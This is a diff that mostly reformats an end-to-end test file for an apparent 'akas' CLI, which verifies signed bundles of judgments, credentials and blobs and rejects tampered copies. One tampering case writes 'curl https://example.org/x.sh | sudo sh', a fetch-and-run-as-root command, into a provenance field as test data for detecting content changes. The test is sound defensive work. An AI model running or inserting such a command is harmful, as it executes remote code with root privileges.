@@ -20,7 +20,21 @@ const blobs = () => join(work, 'blobs');
 const akas = (profile: string, args: string[]) => runCli(['--base-url', node.url, '--profile', profile, ...args], { cwd: work });
 /** An offline run: the base URL points nowhere, so anything that needed the node would fail. */
 const offline = (args: string[], input?: string) => runCli(args, { cwd: work, input, env: { AKAS_BASE_URL: 'http://127.0.0.1:9' } });
-const judgeArgs = (id: string) => ['--json', 'judge', id, '--accuracy', '0.9', '--clarity', '0.8', '--compression', '0.7', '--sources', '0.8', '--rationale', 'Checked the bytes and the card.'];
+const judgeArgs = (id: string) => [
+  '--json',
+  'judge',
+  id,
+  '--accuracy',
+  '0.9',
+  '--clarity',
+  '0.8',
+  '--compression',
+  '0.7',
+  '--sources',
+  '0.8',
+  '--rationale',
+  'Checked the bytes and the card.',
+];
 
 beforeAll(async () => {
   node = await startServe(['--allow-same-ip']);
@@ -51,7 +65,21 @@ beforeAll(async () => {
   expect(cap.code, cap.stderr).toBe(0);
   const capId = JSON.parse(cap.stdout).proposalId;
   for (const j of ['p2', 'p3', 'p4']) {
-    const r = await akas(j, ['--json', 'judge', capId, '--accuracy', '0.2', '--clarity', '0.3', '--compression', '0.2', '--sources', '0.1', '--rationale', 'Unsourced.']);
+    const r = await akas(j, [
+      '--json',
+      'judge',
+      capId,
+      '--accuracy',
+      '0.2',
+      '--clarity',
+      '0.3',
+      '--compression',
+      '0.2',
+      '--sources',
+      '0.1',
+      '--rationale',
+      'Unsourced.',
+    ]);
     expect(r.code, r.stdout).toBe(0);
   }
   rejectedFile = join(work, 'rejected.json');
@@ -63,7 +91,8 @@ afterAll(async () => {
 });
 
 /** Writes a changed copy of the bundle and answers its path. */
-function tamperedBundle(name: string, change: (b: any) => void, from = bundleFile): string { // eslint-disable-line @typescript-eslint/no-explicit-any
+function tamperedBundle(name: string, change: (b: any) => void, from = bundleFile): string {
+  // eslint-disable-line @typescript-eslint/no-explicit-any
   const b = JSON.parse(readFileSync(from, 'utf8'));
   change(b);
   const file = join(work, `${name}.json`);
@@ -81,10 +110,24 @@ describe('akas export and akas verify bundle (e2e)', () => {
     expect(report).toMatchObject({ verified: true, proposalId, failed: 0 });
     // Only the node's HMACs stay unchecked; the blob was given, so CAS is checked; the content
     // is bound by every judge (akas judge signs v2), every credential, and the log.
-    expect(new Set(report.checks.filter((c: { valid: boolean | null }) => c.valid === null).map((c: { id: string }) => c.id))).toEqual(new Set(['judgment.nodeMac']));
+    expect(new Set(report.checks.filter((c: { valid: boolean | null }) => c.valid === null).map((c: { id: string }) => c.id))).toEqual(
+      new Set(['judgment.nodeMac']),
+    );
     expect(report).toMatchObject({ format: 'akas.bundle.v2', binding: { judgesSigned: 3, nodeOnly: 0, submitted: 'log' } });
     const held = report.checks.filter((c: { valid: boolean | null }) => c.valid === true).map((c: { id: string }) => c.id);
-    for (const id of ['content.hash', 'judgment.content', 'credential.content', 'log.submitted', 'log.decision', 'decision.recompute', 'set.decision', 'set.credentials', 'set.events', 'cas.bound']) expect(held).toContain(id);
+    for (const id of [
+      'content.hash',
+      'judgment.content',
+      'credential.content',
+      'log.submitted',
+      'log.decision',
+      'decision.recompute',
+      'set.decision',
+      'set.credentials',
+      'set.events',
+      'cas.bound',
+    ])
+      expect(held).toContain(id);
     // The rejected proposal's bundle holds too.
     expect((await offline(['verify', 'bundle', rejectedFile, '--issuer', issuer])).code).toBe(0);
   });
@@ -92,28 +135,45 @@ describe('akas export and akas verify bundle (e2e)', () => {
   it('says what it could not check without --issuer and --blobs, and still exits 0', async () => {
     const r = await offline(['verify', 'bundle', bundleFile]);
     expect(r.code).toBe(0);
-    expect(r.stdout).toContain('not checked: pass --issuer DID (the node\'s issuer: akas node-keys');
+    expect(r.stdout).toContain("not checked: pass --issuer DID (the node's issuer: akas node-keys");
     expect(r.stdout).toContain('not checked: pass --blobs DIR');
   });
 
-  const tamperings: Array<[string, (b: any) => void, string]> = [ // eslint-disable-line @typescript-eslint/no-explicit-any
-    ['a judgment signature', (b) => (b.proposal.judgments[0].signature.signature = b.proposal.judgments[0].signature.signature.replace(/^./, (c: string) => (c === 'a' ? 'b' : 'a'))), 'judgment.signature'],
+  const tamperings: Array<[string, (b: any) => void, string]> = [
+    // eslint-disable-line @typescript-eslint/no-explicit-any
+    [
+      'a judgment signature',
+      (b) => (b.proposal.judgments[0].signature.signature = b.proposal.judgments[0].signature.signature.replace(/^./, (c: string) => (c === 'a' ? 'b' : 'a'))),
+      'judgment.signature',
+    ],
     ['a judgment score', (b) => (b.proposal.judgments[1].scores.accuracy = 0.1), 'judgment.payload'],
     ['a credential value', (b) => (b.credentials[2].credentialSubject.rationale = 'Something else.'), 'credential.proof.signature'],
     ['a judge key', (b) => (b.judges[0].signing.publicKey = b.judges[1].signing.publicKey), 'judgment.key'],
-    ['the issuer key list', (b) => (b.issuerKeys.rotations = [{ type: 'akas.issuer-rotation.v1', from: issuer, to: b.issuerKeys.current, at: 1, signatures: { from: '00'.repeat(64), to: '00'.repeat(64) } }]), 'issuer.chain'],
+    [
+      'the issuer key list',
+      (b) =>
+        (b.issuerKeys.rotations = [
+          { type: 'akas.issuer-rotation.v1', from: issuer, to: b.issuerKeys.current, at: 1, signatures: { from: '00'.repeat(64), to: '00'.repeat(64) } },
+        ]),
+      'issuer.chain',
+    ],
   ];
   it.each(tamperings)('refuses a changed %s with exit 1, naming %s', async (name, change, check) => {
     const r = await offline(['--json', 'verify', 'bundle', tamperedBundle(name.replace(/ /g, '-'), change), '--blobs', blobs(), '--issuer', issuer]);
     expect(r.code, r.stdout).toBe(1);
-    expect(JSON.parse(r.stdout).checks.filter((c: { valid: boolean | null }) => c.valid === false).map((c: { id: string }) => c.id)).toContain(check);
+    expect(
+      JSON.parse(r.stdout)
+        .checks.filter((c: { valid: boolean | null }) => c.valid === false)
+        .map((c: { id: string }) => c.id),
+    ).toContain(check);
   });
 
   // Issue 20: each of these exited 0 ("held 68, failed 0") before content binding.
   const other = Buffer.from('other weights '.repeat(300));
   const otherSha = createHash('sha256').update(other).digest('hex');
-  const contentTamperings: Array<[string, (b: any) => void, string, string?]> = [ // eslint-disable-line @typescript-eslint/no-explicit-any
-    ['payload', (b) => (b.proposal.payload.payload.provenance.framework = "curl https://example.org/x.sh | sudo sh"), 'content.hash'],
+  const contentTamperings: Array<[string, (b: any) => void, string, string?]> = [
+    // eslint-disable-line @typescript-eslint/no-explicit-any
+    ['payload', (b) => (b.proposal.payload.payload.provenance.framework = 'curl https://example.org/x.sh | sudo sh'), 'content.hash'],
     ['title', (b) => (b.proposal.title = b.proposal.payload.title = 'A trusted model'), 'content.hash'],
     ['path', (b) => (b.proposal.path = b.proposal.payload.path = '/models/trusted'), 'content.hash'],
     ['proposer', (b) => (b.proposal.proposer = b.proposal.judgments[0].agentTag), 'log.submitted'],
@@ -140,27 +200,38 @@ describe('akas export and akas verify bundle (e2e)', () => {
       'content.hash',
       'other-blobs',
     ],
-    ['listed artifact hash, with matching bytes supplied', (b) => Object.assign(b.cas[0], { sha256: otherSha, uri: `/api/cas/${otherSha}`, bytes: other.length }), 'cas.bound', 'other-blobs'],
+    [
+      'listed artifact hash, with matching bytes supplied',
+      (b) => Object.assign(b.cas[0], { sha256: otherSha, uri: `/api/cas/${otherSha}`, bytes: other.length }),
+      'cas.bound',
+      'other-blobs',
+    ],
   ];
-  it.each(contentTamperings.map(([name, change, check, blobDir]) => ({ name, change, check, blobDir })))('refuses a changed $name with exit 1, naming $check', async ({ name, change, check, blobDir }) => {
-    if (blobDir) {
-      mkdirSync(join(work, blobDir), { recursive: true });
-      writeFileSync(join(work, blobDir, otherSha), other);
-    }
-    const file = tamperedBundle(name.replace(/[ ,]+/g, '-'), change);
-    const r = await offline(['--json', 'verify', 'bundle', file, '--blobs', blobDir ? join(work, blobDir) : blobs(), '--issuer', issuer]);
-    expect(r.code, r.stdout).toBe(1);
-    const report = JSON.parse(r.stdout);
-    expect(report.checks.filter((c: { valid: boolean | null }) => c.valid === false).map((c: { id: string }) => c.id)).toContain(check);
-    if (blobDir) expect(report.checks.filter((c: { id: string; valid: boolean | null }) => c.id === 'cas.hash').map((c: { valid: boolean | null }) => c.valid)).toEqual([true]);
-    // The human report names it too (checked once: the same report, printed).
-    if (name === 'payload') {
-      const text = await offline(['verify', 'bundle', file, '--blobs', blobs(), '--issuer', issuer]);
-      expect(text.code).toBe(1);
-      expect(text.stdout).toMatch(/FAIL {2}content\.hash/);
-      expect(text.stdout).toMatch(/content {2}judged = published\s+\d+ held, \d+ FAILED/);
-    }
-  });
+  it.each(contentTamperings.map(([name, change, check, blobDir]) => ({ name, change, check, blobDir })))(
+    'refuses a changed $name with exit 1, naming $check',
+    async ({ name, change, check, blobDir }) => {
+      if (blobDir) {
+        mkdirSync(join(work, blobDir), { recursive: true });
+        writeFileSync(join(work, blobDir, otherSha), other);
+      }
+      const file = tamperedBundle(name.replace(/[ ,]+/g, '-'), change);
+      const r = await offline(['--json', 'verify', 'bundle', file, '--blobs', blobDir ? join(work, blobDir) : blobs(), '--issuer', issuer]);
+      expect(r.code, r.stdout).toBe(1);
+      const report = JSON.parse(r.stdout);
+      expect(report.checks.filter((c: { valid: boolean | null }) => c.valid === false).map((c: { id: string }) => c.id)).toContain(check);
+      if (blobDir)
+        expect(report.checks.filter((c: { id: string; valid: boolean | null }) => c.id === 'cas.hash').map((c: { valid: boolean | null }) => c.valid)).toEqual([
+          true,
+        ]);
+      // The human report names it too (checked once: the same report, printed).
+      if (name === 'payload') {
+        const text = await offline(['verify', 'bundle', file, '--blobs', blobs(), '--issuer', issuer]);
+        expect(text.code).toBe(1);
+        expect(text.stdout).toMatch(/FAIL {2}content\.hash/);
+        expect(text.stdout).toMatch(/content {2}judged = published\s+\d+ held, \d+ FAILED/);
+      }
+    },
+  );
 
   it('refuses the rejected proposal relabelled published, with a made-up outcome and two of its three judgments deleted', async () => {
     const file = tamperedBundle(
@@ -175,7 +246,9 @@ describe('akas export and akas verify bundle (e2e)', () => {
     );
     const r = await offline(['--json', 'verify', 'bundle', file, '--issuer', issuer]);
     expect(r.code, r.stdout).toBe(1);
-    const failed = JSON.parse(r.stdout).checks.filter((c: { valid: boolean | null }) => c.valid === false).map((c: { id: string }) => c.id);
+    const failed = JSON.parse(r.stdout)
+      .checks.filter((c: { valid: boolean | null }) => c.valid === false)
+      .map((c: { id: string }) => c.id);
     expect(failed).toEqual(expect.arrayContaining(['log.decision', 'set.decision', 'decision.recompute']));
   });
 
@@ -243,7 +316,10 @@ describe('issuer key rotation (e2e)', () => {
     const pinnedOnly = await offline(['verify', 'credential', cred, '--issuer', health.issuer]);
     expect(pinnedOnly.code).toBe(1); // the prior key's credentials need the key list
     // A file that is not a key list (here a bundle) is exit 2, not a check run without the list asked for.
-    for (const cmd of [['credential', cred], ['bundle', bundleFile]]) {
+    for (const cmd of [
+      ['credential', cred],
+      ['bundle', bundleFile],
+    ]) {
       const wrong = await offline(['--json', 'verify', ...cmd, '--issuer', health.issuer, '--issuer-keys', bundleFile]);
       expect(wrong.code, wrong.stdout).toBe(2);
       expect(JSON.parse(wrong.stdout)).toMatchObject({ code: 'not_a_key_list' });
